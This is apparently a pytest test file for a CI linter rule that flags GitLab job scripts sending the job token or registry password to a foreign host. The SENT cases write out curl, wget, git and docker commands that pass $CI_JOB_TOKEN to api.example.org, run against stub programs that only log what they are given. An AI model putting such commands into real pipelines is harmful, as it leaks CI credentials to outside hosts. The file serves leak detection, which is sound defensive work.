"""Whether a host gets the job's token is shown by running the script with programs that tell what they are given."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from cilint.settings.model import Environment, Settings
from tests.verdicts.flagging import is_flagged, job

RULE = "job-token-sent-away"
TOKEN = "glcbt-kX93mQv7Lp2Z"
SERVER = Settings(environment=Environment(variables={"CI_SERVER_HOST": "gitlab.example.com"}))
AWAY = "api.example.org"

SENT = {
    "a header": f'curl -H "Authorization: Bearer $CI_JOB_TOKEN" https://{AWAY}/v1',
    "a parameter": f'curl "https://{AWAY}/v1?token=$CI_JOB_TOKEN"',
    "a body": f'curl --data "token=$CI_JOB_TOKEN" https://{AWAY}/v1',
    "standard input": f'echo "$CI_JOB_TOKEN" | curl -d @- https://{AWAY}/v1',
    "wget": f'wget --header "JOB-TOKEN: $CI_JOB_TOKEN" https://{AWAY}/v1',
    "a URL for git": f"git clone https://gitlab-ci-token:$CI_JOB_TOKEN@{AWAY}/a/b.git",
    "a login": f'docker login -u ci -p "$CI_REGISTRY_PASSWORD" {AWAY}',
    "its standard input": f'echo "$CI_REGISTRY_PASSWORD" | docker login -u ci --password-stdin {AWAY}',
    "an assignment": f'T=$CI_JOB_TOKEN\nU=https://{AWAY}\ncurl -H "JOB-TOKEN: $T" "$U/v1"',
    "a function": f'call() {{ curl -H "JOB-TOKEN: $CI_JOB_TOKEN" "https://$1/v1"; }}\ncall {AWAY}',
    "another shell": f"bash -c 'curl -H \"JOB-TOKEN: $CI_JOB_TOKEN\" https://{AWAY}'",
}
NOT_SENT = {
    "another credential": f'curl -H "Authorization: Bearer $API_TOKEN" https://{AWAY}/v1',
    "quoted for nobody": f"curl -H 'JOB-TOKEN: $CI_JOB_TOKEN' https://{AWAY}/v1",
    "its length": f'curl "https://{AWAY}/v1?length=${{#CI_JOB_TOKEN}}"',
    "another command": f'echo "$CI_JOB_TOKEN" > token\ncurl https://{AWAY}/v1',
    "the own GitLab": 'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" https://gitlab.example.com/api/v4',
    "its variable": 'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/projects"',
    "its registry": 'docker login -u ci -p "$CI_REGISTRY_PASSWORD" registry.example.com',
}


def is_sent(script: str, folder: Path) -> bool:
    """Whether a program gets the token beside the name of the other host."""
    if shutil.which("bash") is None:
        pytest.skip("no bash")
    for name in ("curl", "wget", "git", "docker"):
        (folder / name).write_text(
            f'#!/bin/sh\n{{ echo "$@" | tr "\\n" " "; cat | tr "\\n" " "; echo; }} >> {folder}/calls\n',
            encoding="utf-8",
        )
        (folder / name).chmod(0o755)
    environment = {
        "PATH": f"{folder}{os.pathsep}{os.environ['PATH']}",
        "CI_JOB_TOKEN": TOKEN,
        "CI_REGISTRY_PASSWORD": TOKEN,
        "CI_API_V4_URL": "https://gitlab.example.com/api/v4",
        "API_TOKEN": "another",
    }
    subprocess.run(
        ["bash", "-c", script], cwd=folder, env=environment, check=True, capture_output=True, stdin=subprocess.DEVNULL
    )
    calls = (folder / "calls").read_text(encoding="utf-8").splitlines()
    return any(TOKEN in call and AWAY in call for call in calls)


@pytest.mark.parametrize("script", SENT.values(), ids=SENT)
def test_what_is_flagged_gives_the_token_away(script: str, tmp_path: Path) -> None:
    assert is_sent(script, tmp_path)
    assert is_flagged(RULE, job(script), SERVER)


@pytest.mark.parametrize("script", NOT_SENT.values(), ids=NOT_SENT)
def test_what_gives_no_token_to_another_host_is_not_flagged(script: str, tmp_path: Path) -> None:
    assert not is_sent(script, tmp_path)
    assert not is_flagged(RULE, job(script), SERVER)


@pytest.mark.parametrize(
    ("host", "server", "flagged"),
    [
        ("quay.io", "", True),
        ("github.com", "", True),
        ("docker.io", "", True),
        ("api.example.org", "", False),
        ("registry.example.org", "", False),
        ("registry.freedesktop.org", "", False),
        ("gitlab.com", "git.example.com", False),
        ("registry.gitlab.com", "git.example.com", False),
        ("registry.example.com", "git.example.com", False),
        ("api.example.org", "git.example.com", True),
        ("192.0.2.7", "git.example.com", False),
        ("code", "git.example.com", False),
        ("localhost", "git.example.com", False),
    ],
)
def test_a_host_is_another_where_it_cannot_be_the_own_one(host: str, server: str, flagged: bool) -> None:
    settings = Settings(environment=Environment(variables={"CI_SERVER_HOST": server} if server else {}))
    text = f'job:\n  script:\n    - docker login -u ci -p "$CI_JOB_TOKEN" {host}\n'
    assert is_flagged(RULE, text, settings) is flagged
